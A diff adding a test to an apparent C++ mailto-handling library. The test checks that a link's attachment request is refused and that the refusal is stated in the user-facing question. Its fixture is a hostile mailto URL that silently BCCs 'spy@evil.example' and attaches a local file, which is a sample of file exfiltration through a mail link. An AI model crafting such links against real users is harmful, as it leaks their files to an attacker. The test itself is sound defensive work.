@@ -12,6 +12,8 @@
 
 #include "mailtokit/mailto.hpp"
 #include "mailtokit/policy.hpp"
+#include "ask/question.hpp"
+#include "mailtokit/preview.hpp"
 
 using namespace mailtokit;
 using namespace mailtokit::open_link;
@@ -85,5 +87,29 @@ TEST_CASE("a clicked link's files are all told the link's reason, in a system fo
   const auto typed = attach_ticked(*d, r, answer{choice::open, {0}, true}, plan, dir).told;
   CHECK(typed[0].find("/etc") != std::string::npos);
   CHECK(typed[0].find(link) == std::string::npos);
+  (void)std::system(("rm -rf '" + dir + "'").c_str());
+}
+
+TEST_CASE("files that cannot be offered are said in the question's own text, not only in Details", "[files]") {
+  char dir_template[] = "/tmp/mailtokit-files-test-XXXXXX";
+  REQUIRE(mkdtemp(dir_template) != nullptr);
+  const std::string dir = dir_template;
+  std::ofstream(dir + "/report.pdf") << "%PDF-1.4\n";
+  auto d = parse_draft("mailto:a@example.org?bcc=spy@evil.example&attach=" + dir + "/report.pdf", {},
+                       policy::defaults());
+  REQUIRE(d);
+  xdg::environment env;
+  env.home = dir;
+  // Nobody who can show files can be asked: no terminal, no display.
+  const auto r = request_files(*d, {}, open_plan{}, offer_rules{}, ask_context{}, desktop_ui{}, env, xdg::config{});
+  REQUIRE_FALSE(r.why_not.empty());
+  CHECK(r.offer.files.empty());
+  REQUIRE(r.offer.notes.size() == 1);
+  CHECK(r.offer.notes[0].find("report.pdf") != std::string::npos);
+  CHECK(r.offer.notes[0].find("is not attached: " + r.why_not + ".") != std::string::npos);
+  const auto q = make_question(*d, preview::check(*d), {}, {}, r.offer);
+  bool said = false;
+  for (const auto& f : q.findings) said = said || f == r.offer.notes[0];
+  CHECK(said);
   (void)std::system(("rm -rf '" + dir + "'").c_str());
 }
